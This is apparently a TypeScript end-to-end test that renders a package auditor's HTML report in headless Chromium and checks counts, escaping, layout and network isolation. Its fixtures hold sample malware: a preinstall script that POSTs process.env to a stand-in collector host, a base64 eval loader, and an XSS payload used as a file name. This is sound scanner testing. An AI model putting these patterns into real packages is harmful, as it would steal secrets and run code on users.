// The HTML report end to end: a real `tollgate audit --html` against the loopback registry, then the
// page opened in Debian's Chromium (playwright-core, headless): verdict counts as the report has
// them, a finding that expands, no script from the report's text, no request of any kind, no
// horizontal scroll on a phone, and screenshots in test-output/ for a human to look at.
// Skipped where /usr/bin/chromium is missing, except in CI (CI set), where that is a failure.
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { chromium, type Browser, type BrowserContext, type BrowserContextOptions } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { AuditJson } from '../src/audit/report.js';
import { renderHtmlReport, type HtmlPackage } from '../src/report/html.js';
import { startRegistry, type FixturePackage, type TestRegistry } from './helpers/registry.js';
import { runCli, type Run } from './helpers/run-cli.js';

const CHROMIUM = '/usr/bin/chromium';
const HAVE_CHROMIUM = fs.existsSync(CHROMIUM);
const IN_CI = !!process.env.CI;
const SKIP = !HAVE_CHROMIUM && !IN_CI;
const OUTPUT = path.resolve(import.meta.dirname, '..', 'test-output');
const HOSTILE_FILE = '<img src=x onerror=window.pwned=1>.js';

const pj = (name: string, version: string, extra: Record<string, unknown> = {}) => JSON.stringify({ name, version, main: 'index.js', ...extra });
// Inert fixtures: read as text, never run; hosts are under .invalid.
const PKGS: FixturePackage[] = [
  {
    name: 'env-stealer',
    version: '2.3.1',
    files: {
      'package.json': pj('env-stealer', '2.3.1', { scripts: { preinstall: 'node setup.js' } }),
      'index.js': 'module.exports = {};\n',
      'setup.js':
        "const https = require('https');\nconst data = JSON.stringify(process.env);\nconst req = https.request({ hostname: 'collector.invalid', path: '/c', method: 'POST' });\nreq.on('error', () => {});\nreq.write(data);\nreq.end();\n",
    },
  },
  {
    // Suspicious, with a file name that is markup: it must show as text and never run.
    name: 'odd-names',
    version: '0.3.0',
    files: {
      'package.json': pj('odd-names', '0.3.0', { main: HOSTILE_FILE }),
      [HOSTILE_FILE]: "// </script><b>\"'&\nconst payload = Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString();\neval(payload);\nmodule.exports = {};\n",
    },
  },
  { name: 'tidy-lib', version: '1.0.0', files: { 'package.json': pj('tidy-lib', '1.0.0'), 'index.js': 'module.exports = (a, b) => a + b;\n' } },
  { name: 'dev-helper', version: '0.2.0', files: { 'package.json': pj('dev-helper', '0.2.0'), 'index.js': 'exports.noop = () => {};\n' } },
  { name: 'tampered', version: '1.0.0', files: { 'package.json': pj('tampered', '1.0.0'), 'index.js': 'module.exports = 1;\n' } },
];

const LAUNCH_ARGS = ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'];
const DESKTOP: BrowserContextOptions = { viewport: { width: 1280, height: 900 } };
const PHONE: BrowserContextOptions = { viewport: { width: 390, height: 844 }, deviceScaleFactor: 2, isMobile: true, hasTouch: true };

describe.skipIf(SKIP)(`HTML report in Chromium${SKIP ? ` (skipped: ${CHROMIUM} not found; install Debian's chromium. With CI set this fails instead)` : ''}`, () => {
  let registry: TestRegistry;
  let tmp: string;
  let htmlFile: string;
  let url: string;
  let audit: Run;
  let report: AuditJson;
  let browser: Browser;
  /** Every request a page made that was not for the report file itself. */
  const offPage: string[] = [];
  const saved = process.env.TOLLGATE_CACHE_DIR;

  async function context(options: BrowserContextOptions, requests = offPage): Promise<BrowserContext> {
    const ctx = await browser.newContext(options);
    ctx.on('request', (req) => {
      if (!req.url().startsWith('file:')) requests.push(req.url());
    });
    await ctx.route('**/*', (route) => (route.request().url().startsWith('file:') ? route.continue() : route.abort('blockedbyclient')));
    return ctx;
  }

  beforeAll(async () => {
    if (!HAVE_CHROMIUM) throw new Error(`${CHROMIUM} not found: CI must install Debian's chromium (.ci/services); this test does not skip when CI is set`);
    tmp = await fs.promises.mkdtemp(path.join(os.tmpdir(), 'tollgate-html-browser-'));
    process.env.TOLLGATE_CACHE_DIR = path.join(tmp, 'results');
    registry = await startRegistry(PKGS);
    const project = path.join(tmp, 'project');
    fs.mkdirSync(project);
    const entry = async (name: string, version: string, extra: Record<string, unknown> = {}) => ({ version, resolved: registry.tarballUrl(name, version), integrity: registry.integrityOf(name, version), ...extra });
    const lock = {
      name: 'app',
      version: '1.0.0',
      lockfileVersion: 3,
      requires: true,
      packages: {
        '': { name: 'app', version: '1.0.0', dependencies: { 'tidy-lib': '^1.0.0', 'odd-names': '0.3.0', tampered: '1.0.0' }, devDependencies: { 'dev-helper': '0.2.0' } },
        'node_modules/tidy-lib': await entry('tidy-lib', '1.0.0', { dependencies: { 'env-stealer': '^2.3.0' } }),
        'node_modules/env-stealer': await entry('env-stealer', '2.3.1', { hasInstallScript: true }),
        'node_modules/odd-names': await entry('odd-names', '0.3.0'),
        'node_modules/dev-helper': await entry('dev-helper', '0.2.0', { dev: true }),
        // The lockfile promises other bytes than the registry serves: an `error` verdict.
        'node_modules/tampered': { version: '1.0.0', resolved: registry.tarballUrl('tampered', '1.0.0'), integrity: `sha512-${createHash('sha512').update('other bytes').digest('base64')}` },
      },
    };
    fs.writeFileSync(path.join(project, 'package-lock.json'), JSON.stringify(lock, null, 2));
    fs.writeFileSync(path.join(project, 'package.json'), pj('app', '1.0.0'));

    htmlFile = path.join(tmp, 'report.html');
    audit = await runCli(['audit', project, '--json', '--html', htmlFile, '--no-cache', '--cache', path.join(tmp, 'downloads'), '--registry', registry.url]);
    report = JSON.parse(audit.stdout) as AuditJson;
    url = pathToFileURL(htmlFile).href;
    fs.mkdirSync(OUTPUT, { recursive: true });
    browser = await chromium.launch({ executablePath: CHROMIUM, headless: true, args: LAUNCH_ARGS });
  });

  afterAll(async () => {
    await browser?.close();
    await registry?.close();
    if (saved === undefined) delete process.env.TOLLGATE_CACHE_DIR;
    else process.env.TOLLGATE_CACHE_DIR = saved;
    if (tmp) await fs.promises.rm(tmp, { recursive: true, force: true });
  });

  test('the audit wrote the page and said where', () => {
    expect(audit.code).toBe(1); // env-stealer is malicious
    expect(audit.stderr).toContain(`tollgate: HTML report written to ${htmlFile}`);
    expect(fs.statSync(htmlFile).size).toBeGreaterThan(5000);
  });

  test('desktop: the displayed verdict counts are the report counts; a finding opens on click', async () => {
    const ctx = await context(DESKTOP);
    const page = await ctx.newPage();
    await page.goto(url);

    const expected = { malicious: 0, suspicious: 0, error: 0, clean: 0 };
    for (const p of report.packages) expected[p.verdict]++;
    expect(expected).toEqual({ malicious: 1, suspicious: 1, error: 1, clean: 2 }); // the fixtures do what they should
    const tiles = await page.locator('.counts .count').evaluateAll((els) =>
      els.map((e) => ({ verdict: e.getAttribute('data-verdict'), count: Number(e.getAttribute('data-count')), shown: Number(e.querySelector('.n')!.textContent) })),
    );
    expect(tiles).toEqual(Object.entries(expected).map(([verdict, count]) => ({ verdict, count, shown: count })));
    await expect.poll(() => page.locator('.total').textContent()).toBe(`${report.packages.length} packages in this report`);
    expect(await page.locator('svg.donut circle.seg').count()).toBe(4);
    expect(await page.locator('svg.donut').isVisible()).toBe(true);

    // Ranked as in the report: the malicious package first.
    expect(await page.locator('article.pkg h3').first().textContent()).toBe('env-stealer@2.3.1');
    const stealer = page.locator('article.pkg[data-name="env-stealer"]');
    expect(await stealer.locator('.reasons .chain li').count()).toBeGreaterThan(1);
    expect(await stealer.locator('.paths li').first().textContent()).toBe(report.packages.find((p) => p.name === 'env-stealer')!.paths[0]);

    const sevRank = ['info', 'low', 'medium', 'high', 'critical'];
    const worst = [...report.packages.find((p) => p.name === 'env-stealer')!.findings].sort((a, b) => sevRank.indexOf(b.severity) - sevRank.indexOf(a.severity))[0]!;
    const finding = stealer.locator('details.finding').first();
    const evidence = finding.locator('pre.evidence');
    expect(await evidence.isVisible()).toBe(false);
    await finding.locator('summary').click();
    expect(await evidence.isVisible()).toBe(true);
    // With the report's context the evidence shows as an excerpt: numbered lines around the finding,
    // the finding's own line highlighted and its matched text marked.
    expect(worst.context).toBeDefined();
    expect(await evidence.locator('.cl').count()).toBe(worst.context!.lines.length);
    expect(await evidence.locator('.cl.hit .ln').textContent()).toBe(String(worst.line));
    expect(await evidence.locator('.cl.hit mark').textContent()).toBe(worst.evidence);
    await page.screenshot({ path: path.join(OUTPUT, 'html-report-desktop.png'), fullPage: true });
    await ctx.close();
  });

  test('report text is text: the markup file name shows as written and nothing of it runs', async () => {
    const ctx = await context(DESKTOP);
    const page = await ctx.newPage();
    await page.goto(url);
    const odd = page.locator('article.pkg[data-name="odd-names"]');
    await odd.locator('details.finding summary').first().click();
    expect(await odd.locator('details.finding .loc').first().textContent()).toBe(`${HOSTILE_FILE}:3:1`);
    expect(await odd.locator('.reasons').textContent()).toContain(HOSTILE_FILE);
    expect(await page.locator('img, iframe, object, embed').count()).toBe(0);
    expect(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned)).toBeUndefined();
    // The CSP holds even against script that does run: a fetch is refused before any request.
    const fetched = await page.evaluate(() => fetch('https://collector.invalid/x').then(() => 'sent', (e: Error) => e.name));
    expect(fetched).toBe('TypeError');
    await ctx.close();
  });

  test('filters narrow the list by verdict and name (JavaScript on)', async () => {
    const ctx = await context(DESKTOP);
    const page = await ctx.newPage();
    await page.goto(url);
    expect(await page.locator('#filters').isVisible()).toBe(true);
    await page.locator('#filters input[value="malicious"]').uncheck();
    expect(await page.locator('article.pkg[data-name="env-stealer"]').isVisible()).toBe(false);
    expect(await page.locator('article.pkg[data-name="odd-names"]').isVisible()).toBe(true);
    await page.locator('#filters input[value="malicious"]').check();
    await page.locator('#q').fill('odd');
    expect(await page.locator('article.pkg:visible').evaluateAll((els) => els.map((e) => e.getAttribute('data-name')))).toEqual(['odd-names']);
    await ctx.close();
  });

  test('without JavaScript: no filter bar, findings still open with a click', async () => {
    const ctx = await context({ ...DESKTOP, javaScriptEnabled: false });
    const page = await ctx.newPage();
    await page.goto(url);
    expect(await page.locator('#filters').isVisible()).toBe(false);
    const finding = page.locator('article.pkg details.finding').first();
    expect(await finding.locator('pre').isVisible()).toBe(false);
    await finding.locator('summary').click();
    expect(await finding.locator('pre').isVisible()).toBe(true);
    await ctx.close();
  });

  for (const colorScheme of ['light', 'dark'] as const) {
    test(`phone (390x844, ${colorScheme}): no horizontal scroll with everything open, code excerpts scroll in place`, async () => {
      const ctx = await context({ ...PHONE, colorScheme });
      const page = await ctx.newPage();
      await page.goto(url);
      await page.evaluate(() => document.querySelectorAll('details').forEach((d) => (d.open = true)));
      const m = await page.evaluate(() => ({
        scrollWidth: document.scrollingElement!.scrollWidth,
        innerWidth: window.innerWidth,
        pres: [...document.querySelectorAll('pre')].map((p) => p.getBoundingClientRect().right),
      }));
      expect(m.innerWidth).toBe(390);
      expect(m.scrollWidth).toBeLessThanOrEqual(m.innerWidth);
      expect(m.pres.length).toBeGreaterThan(3);
      for (const right of m.pres) expect(right).toBeLessThanOrEqual(m.innerWidth);
      await page.screenshot({ path: path.join(OUTPUT, `html-report-phone${colorScheme === 'dark' ? '-dark' : ''}.png`), fullPage: true });
      await ctx.close();
    });
  }

  test('phone (320 and 390 wide): count cards keep their digits on one line ("17", "616", never "1/7")', async () => {
    const many = (verdict: HtmlPackage['verdict'], n: number): HtmlPackage[] =>
      Array.from({ length: n }, (_, i) => ({ name: `${verdict}-${i}`, version: '1.0.0', source: 'registry', integrity: null, score: verdict === 'clean' ? 0 : 80, verdict, reasons: [], findings: [] }));
    const file = path.join(tmp, 'counts.html');
    fs.writeFileSync(file, renderHtmlReport({ packages: [...many('malicious', 17), ...many('suspicious', 616), ...many('error', 1234), ...many('clean', 10)] }));
    for (const width of [320, 390]) {
      const ctx = await context({ ...PHONE, viewport: { width, height: 800 } });
      const page = await ctx.newPage();
      await page.goto(pathToFileURL(file).href);
      const cards = await page.evaluate(() =>
        [...document.querySelectorAll('.count .n')].map((n) => {
          const el = n as HTMLElement;
          return { text: el.textContent, lines: Math.round(el.getBoundingClientRect().height / parseFloat(getComputedStyle(el).lineHeight)), right: el.getBoundingClientRect().right };
        }),
      );
      expect(cards.map((c) => c.text)).toEqual(['17', '616', '1234', '10']);
      for (const c of cards) {
        expect(c.lines, `${c.text} at ${width}px`).toBe(1);
        expect(c.right).toBeLessThanOrEqual(width);
      }
      expect(await page.evaluate(() => document.scrollingElement!.scrollWidth)).toBeLessThanOrEqual(width);
      await ctx.close();
    }
  });

  test('no page made a request: nothing beyond the report file itself', async () => {
    expect(offPage).toEqual([]);
    // The guard does see requests: a page without the report's CSP that loads an image.
    const control: string[] = [];
    const ctx = await context(DESKTOP, control);
    const page = await ctx.newPage();
    await page.setContent('<img src="http://tollgate.invalid/probe.png">');
    await expect.poll(() => control).toEqual(['http://tollgate.invalid/probe.png']);
    await ctx.close();
  });
});
